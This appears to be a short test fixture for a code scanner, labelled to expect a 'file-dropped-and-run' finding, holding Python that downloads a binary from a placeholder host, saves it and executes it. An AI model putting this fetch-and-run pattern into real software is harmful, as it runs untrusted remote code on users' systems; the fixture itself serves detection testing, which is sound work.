# expect: 6 file-dropped-and-run
import os, requests
data = requests.get("http://h.invalid/tool", timeout=9).content
with open("tool.bin", "wb") as file:
    file.write(data)
os.system("./tool.bin")
